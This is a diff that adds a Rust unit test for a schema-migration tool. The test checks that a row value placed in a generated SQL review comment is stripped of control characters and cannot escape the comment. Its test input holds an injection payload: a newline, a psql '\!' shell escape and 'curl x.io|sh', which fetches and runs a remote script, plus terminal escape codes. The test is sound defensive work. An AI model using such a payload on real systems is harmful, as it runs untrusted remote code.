@@ -97,3 +97,18 @@ fn the_sql_for_review_names_what_it_loses() {
          ALTER TABLE \"s\".\"A\" DROP COLUMN \"a\";\n\nCOMMIT;\n"
     );
 }
+
+#[test]
+fn what_is_in_a_row_cannot_leave_its_comment() {
+    let before = wanted("type A { id: ID! @id a: Int }");
+    let mut steps = steps("type A { id: ID! @id }", &before);
+    let evil = "\n\\!curl x.io|sh #\u{1b}[2J\u{85}\r";
+    let rows = FoundRows { count: 1, example: Some(evil.into()), value: Some(evil.into()) };
+    let described = rows.describe("row", "rows", true);
+    assert!(!described.contains(char::is_control), "{described:?}");
+    steps[0].data_loss.as_mut().unwrap().rows = rows;
+    let text = sql_text(&steps);
+    assert!(text.contains("1 row, e.g. `\u{fffd}\\!curl x.io|sh #\u{fffd}[2J"), "{text}");
+    assert!(!text.contains("\n\\!"), "{text}");
+    assert!(!text.contains('\u{1b}'), "{text}");
+}
